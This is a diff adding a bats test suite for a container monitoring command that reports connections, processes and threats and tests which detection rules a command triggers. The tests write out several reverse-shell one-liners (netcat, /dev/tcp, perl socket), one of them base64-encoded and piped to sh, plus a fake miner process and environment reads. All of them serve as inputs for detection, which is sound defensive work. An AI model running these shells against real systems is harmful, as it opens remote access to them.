@@ -1,0 +1,136 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: GPL-2.0-or-later
+# Looking at what a container does just now, watched or not; which rules a command raises.
+
+setup_file() {
+	load ../lib/common
+	coi_setup
+}
+
+teardown_file() {
+	load ../lib/common
+	coi_teardown
+}
+
+setup() {
+	load ../lib/common
+	cd "$T/ws"
+	settings false
+}
+
+settings() { # WATCHED
+	printf '[container]\ninit = "coi-init"\n[monitoring]\nenabled = %s\n' "$1" >"$HOME/.coi/config.toml"
+}
+
+launch() { # NAME
+	coi container launch coi-default "$1" 2>"$T/launch.err" || { cat "$T/launch.err"; return 1; }
+}
+
+sees() { # NAME JQ-CONDITION
+	coi monitor "$1" --json 2>/dev/null | jq -e "$2" >/dev/null
+}
+
+@test "monitor: connections, processes, amounts and threats of one that nobody watches" {
+	launch m1
+	"$COI" container exec m1 -- bash -c 'exec 9<>/dev/tcp/public.test/80; read -r x; : "$1"' x "$(printf 'a\033[1m\nb')" \
+		</dev/zero >/dev/null 2>&1 3>&- &
+	local one=$! two
+	"$COI" container exec m1 -- bash -c 'ln -s /usr/bin/bash /tmp/xmrig; mkfifo /tmp/f; exec /tmp/xmrig -c "read -r x </tmp/f" --token=hunter2' 3>&- &
+	two=$!
+	within 20 sees m1 '.threats | length == 1'
+	within 20 sees m1 '.network.active_connections == 1'
+	coi monitor m1 --json >"$T/json" 2>"$T/err"
+	grep -q '^Container: m1$' "$T/err"
+	jq -e '.container == "m1" and (.container_ip | startswith("10.77.")) and (has("errors") | not) and
+		(keys_unsorted == ["timestamp", "container", "container_ip", "network", "processes", "filesystem", "resources", "threats"])' "$T/json"
+	jq -e '.network.connections[] | select(.remote_addr == "203.0.113.10:80" and .protocol == "tcp" and
+		.state == "ESTABLISHED" and .uid == 0 and .suspicious == false)' "$T/json"
+	jq -e '.processes | .available and .total_count == (.processes | length)' "$T/json"
+	# By the host's numbers; what a process calls itself is escaped.
+	jq -r '.processes.processes[] | select(.command | test("^/tmp/xmrig")).pid' "$T/json" >"$T/pid"
+	grep -q xmrig "/proc/$(cat "$T/pid")/cmdline"
+	jq -e '.processes.processes[] | select(.command | contains("a\\x1b[1m\\x0ab"))' "$T/json"
+	jq -e '.resources | .memory_mb > 0 and .cpu_time_seconds >= 0' "$T/json"
+	jq -e '.filesystem | .available and .read_rate_mb_per_sec >= 0' "$T/json"
+	# As a record has it, secrets masked; nothing is done about it and nothing kept.
+	jq -e --argjson pid "$(cat "$T/pid")" '.threats[0] | .level == "high" and .title == "Attack tool" and .action == "logged" and
+		.evidence.process.pid == $pid and (.evidence.process.command | test("--token=\\*\\*\\*"))' "$T/json"
+	! grep -q 'Attack tool' "$HOME/.coi/audit/m1.jsonl"
+
+	coi monitor m1 >"$T/text" 2>/dev/null
+	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' "$T/text"
+	grep -q '203.0.113.10:80' "$T/text"
+	grep -q '^Threats: 1$' "$T/text"
+	grep -q '  high: Attack tool: .*/tmp/xmrig' "$T/text"
+	coi container delete --force m1 2>/dev/null
+	wait "$one" "$two" || true
+}
+
+@test "monitor: who looks into the environment, and one that is frozen is looked at too" {
+	settings true
+	launch m2
+	"$COI" container exec m2 -- bash -c 'mkfifo /tmp/f; read -r x </tmp/f; : /proc/1/environ' 3>&- >/dev/null 2>&1 &
+	local one=$!
+	within 20 sees m2 '.processes.processes[] | select(.env_access and (.command | test("environ")))'
+	"$COI" container exec m2 -- bash -c 'ln -s /usr/bin/bash /tmp/xmrig; exec /tmp/xmrig -c "read -r x </tmp/f"' 3>&- >/dev/null 2>&1 &
+	local two=$!
+	frozen() { coi container list --format json | jq -e '.[] | select(.name == "m2" and .status == "Frozen")' >/dev/null; }
+	within 20 frozen
+	sees m2 '[.threats[].title] | contains(["Attack tool"])'
+	coi container delete --force m2 2>/dev/null
+	wait "$one" "$two" || true
+}
+
+@test "monitor --watch: looks again and again, until it is told to end or the container is gone" {
+	launch m3
+	"$COI" monitor m3 --watch 1 >"$T/watched" 2>&1 3>&- &
+	local one=$!
+	twice() { [ "$(grep -c '^Threats: ' "$T/watched")" -ge 2 ]; }
+	within 20 twice
+	kill -INT "$one"
+	wait "$one"
+	grep -q 'again in 1 s; Ctrl-C ends it' "$T/watched"
+	"$COI" monitor m3 --watch 1 >"$T/watched" 2>&1 3>&- &
+	one=$!
+	within 20 grep -q '^Threats: ' "$T/watched"
+	coi container delete --force m3
+	wait "$one"
+}
+
+@test "monitor: what is refused" {
+	run -2 coi monitor --watch 1 --json
+	grep -q 'exclude each other' <<<"$output"
+	run ! coi monitor nobody
+	grep -q "no running container has the name or alias 'nobody'" <<<"$output"
+	run ! coi monitor
+	grep -q 'no running container belongs to' <<<"$output"
+	run ! coi monitor --watch -1
+	run -2 coi monitor --format table
+}
+
+@test "monitor patterns: every rule is listed, and what a command raises is said with why" {
+	coi monitor patterns list --json >"$T/rules"
+	jq -e 'length > 20 and all(.rule and .level and .category and .title and .description) and
+		((map(.rule) | unique | length) == length)' "$T/rules"
+	[ "$(coi monitor patterns list | wc -l)" = "$(($(jq length "$T/rules") + 1))" ]
+
+	# A line for a shell; what is hidden in it is found.
+	run -0 coi monitor patterns test 'echo bmMgLWUgc2ggMS4yLjMuNCA1Cg== | base64 -d | sh'
+	grep -q '^critical: Reverse shell (reverse-shell.netcat)' <<<"$output"
+	grep -q '  in:  nc -e sh 1.2.3.4 5$' <<<"$output"
+	grep -q '  then: nothing, monitoring is off' <<<"$output"
+	# A program and its words.
+	run -0 coi monitor patterns test -- git push origin main
+	grep -q '^No rule fires.$' <<<"$output"
+	# By the settings that are in force.
+	settings true
+	coi monitor patterns test --json 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' >"$T/found"
+	jq -e 'length == 1 and .[0].rule == "reverse-shell.dev-tcp" and .[0].level == "critical" and .[0].action == "killed"' "$T/found"
+	printf 'reverse_shell_one_liners = "off"\n' >>"$HOME/.coi/config.toml"
+	coi monitor patterns test --json -- perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton("203.0.113.10")))' >"$T/found"
+	! jq -e '.[] | select(.level == "critical")' "$T/found"
+	# Nothing of it reaches the terminal as it is.
+	run -0 coi monitor patterns test "$(printf 'nc -e \033]0;x\007sh 1.2.3.4 5')"
+	! grep -qP '[\x00-\x08\x0b-\x1f\x7f]' <<<"$output"
+	run ! coi monitor patterns test
+}
